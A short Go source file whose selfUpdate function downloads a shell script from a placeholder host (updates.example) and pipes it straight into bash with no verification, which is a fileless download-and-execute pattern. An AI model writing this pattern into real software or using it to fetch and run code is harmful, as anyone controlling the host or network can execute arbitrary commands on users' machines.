// Download and execute without a file: the response body is the script.
package lib

import (
	"io"
	"net/http"
	"os/exec"
)

func selfUpdate() {
	resp, err := http.Get("https://updates.example/install.sh")
	if err != nil {
		return
	}
	b, _ := io.ReadAll(resp.Body)
	exec.Command("bash", "-c", string(b)).Run()
}
